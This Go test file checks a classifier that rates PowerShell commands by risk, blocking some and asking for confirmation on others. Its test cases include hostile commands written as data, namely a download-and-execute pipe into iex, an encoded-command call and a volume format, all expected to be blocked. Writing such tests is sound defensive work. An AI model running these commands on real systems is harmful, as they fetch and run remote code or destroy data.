package classify

import (
	"reflect"
	"sync"
	"testing"

	"github.com/psgate/psgate/internal/patterns"
)

func TestClassifyLayers(t *testing.T) {
	c := New(patterns.NewStore(), nil)

	tests := []struct {
		name        string
		cmd         string
		wantLevel   Level
		wantBlocked bool
		wantConfirm bool
	}{
		{"safe read", "Get-Date", LevelSafe, false, false},
		{"safe listing", "dir C:\\temp", LevelSafe, false, false},
		{"risky remove", "Remove-Item ./file.txt", LevelRisky, false, true},
		{"risky stop service", "Stop-Service spooler", LevelRisky, false, true},
		{"encoded command critical", "powershell -EncodedCommand abc", LevelCritical, true, false},
		{"download and execute critical", "Invoke-WebRequest http://x/payload | iex", LevelCritical, true, false},
		{"blocked format", "Format-Volume -DriveLetter C", LevelBlocked, true, false},
		{"dangerous critical service", "Stop-Service winrm -Force", LevelDangerous, true, false},
		{"verb baseline safe", "Sort-Object -Property Name", LevelSafe, false, false},
		{"unknown", "frobnicate --things", LevelUnknown, false, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := c.Classify(tt.cmd, "")
			if a.Level != tt.wantLevel {
				t.Errorf("level = %s, want %s", a.Level, tt.wantLevel)
			}
			if a.Blocked != tt.wantBlocked {
				t.Errorf("blocked = %v, want %v", a.Blocked, tt.wantBlocked)
			}
			if a.RequiresConfirmation != tt.wantConfirm {
				t.Errorf("requiresConfirmation = %v, want %v", a.RequiresConfirmation, tt.wantConfirm)
			}
			if a.Blocked && a.RequiresConfirmation {
				t.Error("blocked and requiresConfirmation are mutually exclusive")
			}
		})
	}
}

func TestEscalationTable(t *testing.T) {
	c := New(patterns.NewStore(), nil)

	tests := []struct {
		name      string
		cmd       string
		wantLevel Level
	}{
		// Mutation verb + destructive noun promotes to at least RISKY.
		{"set variable", "Set-Variable -Name x -Value 1", LevelRisky},
		{"clear variable", "Clear-Variable -Name x", LevelRisky},
		// -Force / -Recurse promote even without a destructive noun.
		{"import with force", "Import-Clixml data.xml -Force", LevelRisky},
		// -Confirm:$false with a mutation verb escalates one step further.
		{"remove noconfirm", "Remove-Item x.txt -Force -Confirm:$false", LevelDangerous},
		// -WhatIf without -Force must not escalate past RISKY.
		{"whatif stays risky", "Remove-Item x.txt -WhatIf", LevelRisky},
		// -Confirm:$false without a mutation verb does not escalate.
		{"get with noconfirm", "Get-ChildItem -Confirm:$false", LevelSafe},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := c.Classify(tt.cmd, "")
			if a.Level != tt.wantLevel {
				t.Errorf("Classify(%q).Level = %s, want %s", tt.cmd, a.Level, tt.wantLevel)
			}
		})
	}
}

func TestVerbNounParsing(t *testing.T) {
	c := New(patterns.NewStore(), nil)
	a := c.Classify("Get-Date -Format o", "")
	if a.Verb != "get" || a.Noun != "date" {
		t.Errorf("verb-noun = %s-%s, want get-date", a.Verb, a.Noun)
	}
}

func TestClassifyIsDeterministic(t *testing.T) {
	c := New(patterns.NewStore(), nil)
	first := c.Classify("Remove-Item ./file.txt", "")
	second := c.Classify("Remove-Item ./file.txt", "")
	if !reflect.DeepEqual(first, second) {
		t.Errorf("repeated classification differs:\n%+v\n%+v", first, second)
	}
}

func TestUnknownFeedsRecorder(t *testing.T) {
	var mu sync.Mutex
	var recorded []string
	done := make(chan struct{}, 1)
	recorder := RecorderFunc(func(cmd, session string) {
		mu.Lock()
		recorded = append(recorded, cmd)
		mu.Unlock()
		done <- struct{}{}
	})

	c := New(patterns.NewStore(), recorder)
	a := c.Classify("frobnicate --things", "session-1")
	if a.Level != LevelUnknown {
		t.Fatalf("level = %s, want UNKNOWN", a.Level)
	}
	<-done
	mu.Lock()
	defer mu.Unlock()
	if len(recorded) != 1 || recorded[0] != "frobnicate --things" {
		t.Errorf("recorder saw %v", recorded)
	}
}

func TestSafeCommandsDoNotFeedRecorder(t *testing.T) {
	called := make(chan struct{}, 1)
	c := New(patterns.NewStore(), RecorderFunc(func(string, string) { called <- struct{}{} }))
	c.Classify("Get-Date", "")
	select {
	case <-called:
		t.Error("recorder called for a SAFE command")
	default:
	}
}

func TestLearnedSafePromotionChangesOutcome(t *testing.T) {
	store := patterns.NewStore()
	c := New(store, nil)

	if a := c.Classify("frobnicate --things", ""); a.Level != LevelUnknown {
		t.Fatalf("precondition: level = %s, want UNKNOWN", a.Level)
	}

	expr := patterns.LearnedSafeExpr("frobnicate --things")
	if err := store.AddLearnedSafe("frobnicate --things", expr); err != nil {
		t.Fatalf("AddLearnedSafe: %v", err)
	}

	a := c.Classify("frobnicate   --things", "")
	if a.Level != LevelSafe {
		t.Errorf("after promotion level = %s, want SAFE", a.Level)
	}
	if a.RequiresConfirmation {
		t.Error("promoted command still requires confirmation")
	}
}

func TestNoLayerLowersSeverity(t *testing.T) {
	store := patterns.NewStore()
	// Even an operator-added safe pattern cannot neutralize escalation
	// switches on a mutation verb.
	if err := store.AddSafe("custom_remove", `^remove-item\s+scratch\b`); err != nil {
		t.Fatalf("AddSafe: %v", err)
	}
	c := New(store, nil)
	a := c.Classify("Remove-Item scratch -Recurse -Force", "")
	if a.Level == LevelSafe {
		t.Error("escalation switches were ignored by a safe-group match")
	}
}

func TestLevelHelpers(t *testing.T) {
	for _, l := range []Level{LevelDangerous, LevelCritical, LevelBlocked} {
		if !l.Blocked() {
			t.Errorf("%s.Blocked() = false", l)
		}
	}
	for _, l := range []Level{LevelSafe, LevelRisky, LevelUnknown} {
		if l.Blocked() {
			t.Errorf("%s.Blocked() = true", l)
		}
	}
	if Level("BOGUS").Valid() {
		t.Error("bogus level reported valid")
	}
}
